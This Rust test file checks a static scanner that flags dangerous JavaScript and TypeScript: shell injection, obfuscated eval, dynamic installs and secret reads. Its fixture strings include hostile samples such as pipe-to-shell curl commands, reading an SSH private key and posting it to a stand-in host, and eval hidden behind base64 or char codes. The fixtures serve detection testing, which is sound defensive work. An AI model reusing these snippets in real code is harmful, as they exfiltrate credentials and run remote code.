//! JS-001 – JS-005, SUP-001, the shell hand-off, TS/TSX and garbage input.

use super::*;

#[test]
fn js001_esm_exec_with_template() {
    let out =
        run("import { execSync } from 'node:child_process';\nexecSync(`curl -d @- ${url}`);\n");
    assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Critical, 2)]);
    assert!(of(&out, "JS-004").is_empty());
    assert_eq!(out.caps.subprocess, vec![("index.js".to_string(), 2)]);
    let f = of(&out, "JS-001")[0];
    assert_eq!(f.stage_id, "stage2");
    assert_eq!(f.rule_type, "shell_injection");
    assert_eq!(f.confidence, 0.9);
    assert_eq!(
        f.evidence.as_deref(),
        Some("execSync(`curl -d @- ${url}`);")
    );
}

#[test]
fn js001_variants_and_declared_subprocess() {
    let src = "const cp = require('child_process');\n\
               cp.exec('ls ' + dir);\n\
               const { spawn: sp } = require('node:child_process');\n\
               sp(cmd, { shell: true });\n\
               sp('sh', ['-c', 'rm -rf ' + p]);\n\
               sp('ls', ['-la', p]);\n";
    let out = run(src);
    assert_eq!(
        sev_lines(&out, "JS-001"),
        vec![
            (Severity::Critical, 2),
            (Severity::Critical, 4),
            (Severity::Critical, 5)
        ]
    );
    assert_eq!(sev_lines(&out, "JS-004"), vec![(Severity::Medium, 6)]);
    let declared = Permissions {
        subprocess: true,
        ..Default::default()
    };
    let out = run_decl("index.js", src, &declared);
    assert_eq!(of(&out, "JS-001")[0].severity, Severity::High);
    assert_eq!(of(&out, "JS-004")[0].severity, Severity::Info);
}

#[test]
fn js001_not_regex_exec_or_local_module() {
    let out =
        run("const m = /(\\d+)/.exec(s);\nconst { exec } = require('./lib/exec');\nexec(cmd);\n");
    assert!(of(&out, "JS-001").is_empty(), "{:?}", out.findings);
    assert!(of(&out, "JS-004").is_empty());
    assert!(out.caps.subprocess.is_empty());
}

#[test]
fn js002_global_eval_with_atob_and_js003() {
    let out = run("const p = getPayload();\nglobalThis['ev'+'al'](atob(p));\n");
    assert_eq!(sev_lines(&out, "JS-002"), vec![(Severity::Critical, 2)]);
    assert_eq!(sev_lines(&out, "JS-003"), vec![(Severity::Critical, 2)]);
    let out = run("window[name](x);\n");
    assert_eq!(sev_lines(&out, "JS-002"), vec![(Severity::Critical, 1)]);
}

#[test]
fn js002_not_timers_with_functions_or_constant_require() {
    let out = run(
        "setTimeout(() => retry(), 1000);\nconst u = require(\"./\" + \"util\");\nsetInterval(tick, 5);\n",
    );
    assert!(of(&out, "JS-002").is_empty(), "{:?}", out.findings);
}

#[test]
fn js002_severities() {
    let out = run(
        "eval('1 + 1');\nnew Function(body)();\nrequire(name);\nsetTimeout('go()', 10);\nimport(modName);\nconst vm = require('vm');\nvm.runInNewContext(code);\n",
    );
    assert_eq!(
        sev_lines(&out, "JS-002"),
        vec![
            (Severity::Medium, 1),
            (Severity::Critical, 2),
            (Severity::Critical, 3),
            (Severity::Medium, 4),
            (Severity::Critical, 5),
            (Severity::Critical, 7)
        ]
    );
    assert_eq!(sev_lines(&out, "CODE-006"), vec![(Severity::Low, 6)]);
}

#[test]
fn js003_decoded_evidence_and_not_image_bytes() {
    let out = run("eval(atob(\"YWxlcnQoZG9jdW1lbnQuY29va2llKQ==\"));\n");
    let f = of(&out, "JS-003");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].evidence.as_deref(), Some("alert(document.cookie)"));
    let out = run(
        "const fs = require('fs');\nfs.writeFileSync(\"logo.png\", Buffer.from(b64, \"base64\"));\n",
    );
    assert!(of(&out, "JS-003").is_empty());
    assert!(of(&out, "JS-002").is_empty());
}

#[test]
fn js003_reverse_and_char_codes_through_names() {
    let src = "const cp = require('child_process');\n\
               const c = 'hs | ptth//:x lruc'.split('').reverse().join('');\n\
               cp.execSync(c);\n\
               const e = String.fromCharCode(101, 118, 97, 108);\n\
               globalThis[e]('1');\n";
    let out = run(src);
    let f = of(&out, "JS-003");
    assert_eq!(f.len(), 1, "{:?}", out.findings);
    assert_eq!(f[0].line, Some(3));
    assert_eq!(f[0].evidence.as_deref(), Some("curl x://http | sh"));
    // The char-code key folds to `eval`: JS-002 (constant argument → medium).
    assert_eq!(sev_lines(&out, "JS-002"), vec![(Severity::Medium, 5)]);
}

#[test]
fn decoded_constants_are_rescanned_at_the_decoder_line() {
    // base64 of: require('child_process').execSync('x ' + process.argv[2])
    let inner = "require('child_process').execSync('x ' + process.argv[2])";
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, inner);
    let src = format!(
        "const a = 1;\nconst code = Buffer.from('{b64}', 'base64').toString();\nconsole.log(code);\n"
    );
    let out = run(&src);
    let f = of(&out, "JS-001");
    assert_eq!(f.len(), 1, "{:?}", out.findings);
    assert_eq!(f[0].line, Some(2));
    assert!(
        f[0].message.starts_with("In decoded data: "),
        "{}",
        f[0].message
    );
    assert_eq!(f[0].evidence.as_deref(), Some(inner));
    assert_eq!(out.caps.subprocess, vec![("index.js".to_string(), 2)]);
}

#[test]
fn js004_spawn_and_not_dynamic_import() {
    let out = run("const { spawn } = require('child_process');\nspawn(\"git\", [\"status\"]);\n");
    assert_eq!(sev_lines(&out, "JS-004"), vec![(Severity::Medium, 2)]);
    let out = run("const w = await import('./worker.js');\n");
    assert!(
        out.findings.iter().all(|f| f.severity == Severity::Info),
        "{:?}",
        out.findings
    );
    let out = run(
        "const r = Bun.spawn(['ls']);\nconst c = new Deno.Command('git', { args: ['log'] });\n",
    );
    assert_eq!(
        sev_lines(&out, "JS-004"),
        vec![(Severity::Medium, 1), (Severity::Medium, 2)]
    );
}

#[test]
fn js005_env_reads() {
    let out = run(
        "const k = process.env.OPENAI_API_KEY;\nconst m = process.env.NODE_ENV;\nconst x = process.env[name];\nconst { GITHUB_TOKEN, LOG_LEVEL } = process.env;\nDeno.env.get('API_SECRET');\n",
    );
    assert_eq!(
        sev_lines(&out, "JS-005"),
        vec![
            (Severity::Low, 1),
            (Severity::Info, 2),
            (Severity::Low, 3),
            (Severity::Low, 4),
            (Severity::Low, 5)
        ]
    );
    assert!(of(&out, "CODE-003").is_empty());
}

#[test]
fn sup001_installs_from_js() {
    let out = run(
        "const { execSync } = require('child_process');\nexecSync(\"npm i x\");\nexecSync('npx -y some-tool');\nconsole.log(\"Run: npm install x\");\n// execSync('pip install y')\n",
    );
    let f = of(&out, "SUP-001");
    assert_eq!(f.len(), 2, "{:?}", out.findings);
    assert_eq!(f[0].stage_id, "stage5");
    assert_eq!(f[0].rule_type, "dynamic_install");
    assert_eq!(
        sev_lines(&out, "SUP-001"),
        vec![(Severity::Critical, 2), (Severity::Critical, 3)]
    );
    let out = run("const cp = require('child_process');\ncp.spawnSync('pip', ['install', pkg]);\n");
    assert_eq!(sev_lines(&out, "SUP-001"), vec![(Severity::Critical, 2)]);
}

#[test]
fn shell_command_strings_are_handed_over_without_panic() {
    let out = run(
        "const cp = require('child_process');\ncp.exec('curl -fsSL https://x.example/i.sh | sh');\ncp.exec(`echo ${'$'}(cat /etc/passwd) \"unterminated`);\n",
    );
    assert_eq!(
        sev_lines(&out, "JS-004"),
        vec![(Severity::Medium, 2), (Severity::Medium, 3)]
    );
    assert_eq!(
        out.caps
            .net
            .iter()
            .map(|n| n.host.clone())
            .collect::<Vec<_>>(),
        vec![Some("x.example".to_string())]
    );
}

#[test]
fn typescript_and_tsx_are_analysed() {
    let ts = "import { execSync } from \"child_process\";\nexport function run(cmd: string): void {\n  execSync((cmd as string)!);\n}\n";
    let out = run_decl("src/run.ts", ts, &Permissions::default());
    assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Critical, 3)]);
    let tsx = "import * as cp from 'node:child_process';\nexport const App = (p: { c: string }) => {\n  cp.exec(p.c);\n  return <div className=\"x\">{p.c}</div>;\n};\n";
    let out = run_decl("ui/App.tsx", tsx, &Permissions::default());
    assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Critical, 3)]);
    let mts = "import cp = require('child_process');\ncp.execSync(x);\n";
    let out = run_decl("a.mts", mts, &Permissions::default());
    assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Critical, 2)]);
}

#[test]
fn comments_are_never_code() {
    let out = run(
        "// require('child_process').execSync(x)\n/* fetch('https://evil.example/x', {body: process.env}) */\nconst a = 1;\n",
    );
    assert!(out.findings.is_empty(), "{:?}", out.findings);
}

#[test]
fn garbage_never_panics() {
    let inputs: Vec<String> = vec![
        String::new(),
        "(".repeat(5000),
        "`${".repeat(2000),
        "\u{0}\u{1}\u{fffd}ÿ😀 ".repeat(100),
        "eval(atob('####'));String.fromCharCode(999999999, -1, 'x');".into(),
        "const a = b; const b = a; eval(a + b); a.b.c.d(require(a));".into(),
        "for (const x of x) x.forEach(x => eval(x));".into(),
        "Buffer.from([1e400, -5, 'a'], 'hex'); decodeURIComponent('%E0%A4%A'); unescape('%u12');"
            .into(),
        "const o = {a: o.a}; fetch(o.a); path.join(...x); ''.split('').reverse().join(1);".into(),
        "'abc'.slice(-99, 99999999999); 'x'.replaceAll('', 'y'); 'a'.concat(...b);".into(),
    ];
    for s in inputs {
        let _ = run(&s);
        let _ = run_decl("x.tsx", &s, &Permissions::default());
    }
}

#[test]
fn non_runtime_files_are_lowered_except_chain_rules() {
    let src = "const cp = require('child_process');\ncp.exec(cmd);\nconst k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nfetch('https://x.example/u', { method: 'POST', body: k });\n";
    let out = run_decl("tests/helper.js", src, &Permissions::default());
    assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Medium, 2)]);
    assert_eq!(sev_lines(&out, "CODE-004"), vec![(Severity::Low, 3)]);
    assert_eq!(sev_lines(&out, "CODE-002"), vec![(Severity::Critical, 4)]);
    assert!(out.caps.subprocess.is_empty() && out.caps.net.is_empty());
}

#[test]
fn resolution_through_promisify_dynamic_import_and_for_each() {
    let src = "import { promisify } from 'node:util';\nimport { exec } from 'node:child_process';\n\
               const run = promisify(exec);\nawait run(`git log ${ref}`);\n\
               const { execSync: x } = await import('child_process');\nx(cmd);\n\
               ['~/.ssh/id_ed25519', 'a.txt'].forEach((p) => require('fs').readFileSync(p));\n";
    let out = run(src);
    assert_eq!(
        sev_lines(&out, "JS-001"),
        vec![(Severity::Critical, 4), (Severity::Critical, 6)]
    );
    assert_eq!(sev_lines(&out, "CODE-004"), vec![(Severity::High, 7)]);
}
